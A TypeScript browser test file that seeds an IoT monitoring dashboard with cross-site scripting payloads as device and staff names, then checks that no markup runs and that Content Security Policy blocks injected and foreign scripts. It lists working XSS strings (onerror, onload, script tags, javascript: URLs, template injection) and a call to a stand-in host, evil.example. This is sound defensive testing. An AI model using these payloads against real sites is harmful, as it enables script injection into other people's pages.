// A real Chromium looks at a village whose devices, people and messages are called what would run if a page took it for markup.

import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hasChromium, launchChromium } from '../browser/chromium.ts'
import { type Credentials, startVillage, type TestVillage, until } from '../village.ts'

const RUN = 'globalThis.ran=1'
const MARKUP = [
  `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
] as const

/** What a hole in the page would do; the names of the rules that stopped it. */
const INTRUSION = `(async () => {
  const names = []
  document.addEventListener('securitypolicyviolation', (event) => names.push(event.effectiveDirective))
  const script = document.createElement('script')
  script.textContent = '${RUN}'
  document.body.append(script)
  document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="${RUN}">')
  const foreign = document.createElement('script')
  foreign.src = 'https://evil.example/x.js'
  document.body.append(foreign)
  await fetch('https://evil.example/').catch(() => undefined)
  await new Promise((done) => setTimeout(done, 300))
  return names
})()`

const PAGES = ['/', '/infrastructure', '/environment', '/system', '/sign-in'] as const

/** By then the live state is drawn. */
const SETTLED_MS = 1_200

describe.runIf(hasChromium())('a page', () => {
  let village: TestVillage
  let browser: Browser
  let cookie = ''
  let devices: Credentials[] = []

  beforeAll(async () => {
    village = await startVillage()
    browser = await launchChromium()
    cookie = await village.signIn()
    devices = await Promise.all([
      added('hotspot', 0),
      added('sensor', 1),
      added('vehicle', 2),
      added('sensor', 3),
      added('hotspot', 4),
      added('sensor', 5),
    ])
    await speakMarkup()
  })

  afterAll(async () => {
    await browser?.close()
    await village?.dispose()
  })

  async function ask(method: string, path: string, body: object): Promise<Response> {
    return fetch(village.http + path, {
      method,
      headers: { cookie, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
  }

  async function added(kind: string, index: number): Promise<Credentials> {
    const answer = await ask('POST', '/api/v1/admin/devices', {
      id: `d-${index}`,
      kind,
      name: MARKUP[index],
      lat: -6.17 + index / 1_000,
      lon: 106.807,
    })
    expect([MARKUP[index], answer.status]).toEqual([MARKUP[index], 201])
    return (await answer.json()) as Credentials
  }

  /** Readings, quarantine, events, maintenance, tokens and accounts: each as a stranger would name them. */
  async function speakMarkup(): Promise<void> {
    for (const [index, device] of devices.entries()) {
      const text = MARKUP[index] ?? ''
      const client = await village.connect(device)
      const publish = (channel: string, payload: string): Promise<unknown> =>
        client.publishAsync(`${device.topicPrefix}/${channel}`, payload, { qos: 1 })
      await publish('status', 'online')
      await publish(
        'reading',
        JSON.stringify({
          values: { pm2_5: 12, latency_ms: 20, up: 1, speed: 1 },
          position: { lat: -6.17 + index / 1_000, lon: 106.807 },
          trip: text,
          route: text,
        }),
      )
      await publish('reading', text)
      await publish('reading', JSON.stringify({ values: { [text]: text } }))
      await publish('event', JSON.stringify({ event: 'tamper', detail: { [text]: text } }))
      await client.endAsync()
      await ask('POST', '/api/v1/maintenance', {
        devices: [device.id],
        from: new Date(Date.now() - 60_000).toISOString(),
        to: new Date(Date.now() + 3_600_000).toISOString(),
        reason: text,
      })
      await ask('POST', '/api/v1/tokens', { name: text.slice(0, 60), role: 'environment' })
    }
    await until(async () => {
      const { messages } = await village.get<{ messages: unknown[] }>('/api/v1/quarantine', cookie)
      return messages.length >= devices.length
    })
  }

  interface Visit {
    readonly page: Page
    readonly violations: string[]
    readonly context: BrowserContext
  }

  async function visit(path: string): Promise<Visit> {
    const context = await browser.newContext({ viewport: { width: 1_280, height: 800 } })
    const { hostname } = new URL(village.http)
    await context.addCookies(
      cookie
        .split('; ')
        .map((pair) => pair.split(/=(.*)/s))
        .map(([name = '', value = '']) => ({ name, value, domain: hostname, path: '/' })),
    )
    const page = await context.newPage()
    const violations: string[] = []
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text())
    })
    page.on('dialog', (dialog) => {
      violations.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await page.goto(village.http + path)
    await page.waitForTimeout(SETTLED_MS)
    return { context, page, violations }
  }

  const ran = (page: Page): Promise<unknown> => page.evaluate('globalThis.ran')

  it('runs nothing of what a device or a member of staff is called', async () => {
    const paths = [...PAGES, '/ringan', '/#device=d-0', '/#device=d-1', '/#device=d-2']
    const look = async (path: string): Promise<object> => {
      const { context, page, violations } = await visit(path)
      const attributes = await page.locator('[onerror], [onload], a[href^="javascript:"]').count()
      const result = { path, ran: await ran(page), violations, attributes }
      await context.close()
      return result
    }
    // Three at a time: each waits for its live state most of the time.
    for (let from = 0; from < paths.length; from += 3) {
      const some = paths.slice(from, from + 3)
      expect(await Promise.all(some.map(look))).toEqual(
        some.map((path) => ({ path, ran: undefined, violations: [], attributes: 0 })),
      )
    }
  })

  it('shows those names as they are', async () => {
    const { context, page } = await visit('/infrastructure')
    await page.getByText(MARKUP[0], { exact: false }).first().waitFor()
    await context.close()
  })

  it('runs no script that gets into a page all the same', async () => {
    const { context, page } = await visit('/')
    const blocked = await page.evaluate<string[]>(INTRUSION)
    expect(await ran(page)).toBeUndefined()
    expect(new Set(blocked)).toEqual(new Set(['script-src-elem', 'script-src-attr', 'connect-src']))
    await context.close()
  })

  it.each([...PAGES, '/api/docs'])('%s comes with a policy that lets nothing inline run', async (path) => {
    const answer = await fetch(village.http + path)
    const policy = answer.headers.get('content-security-policy') ?? ''
    expect(policy).toMatch(/(^|; )script-src 'self'( 'sha256-[\w+/=]+')*(;|$)/)
    expect(policy).toMatch(/(^|; )style-src 'self'( 'sha256-[\w+/=]+')*(;|$)/)
    expect(policy).not.toContain('unsafe')
    expect(await answer.text()).not.toMatch(/<[a-z][^>]*\s(on\w+=|(href|src)=["']?javascript:)/i)
  })
})
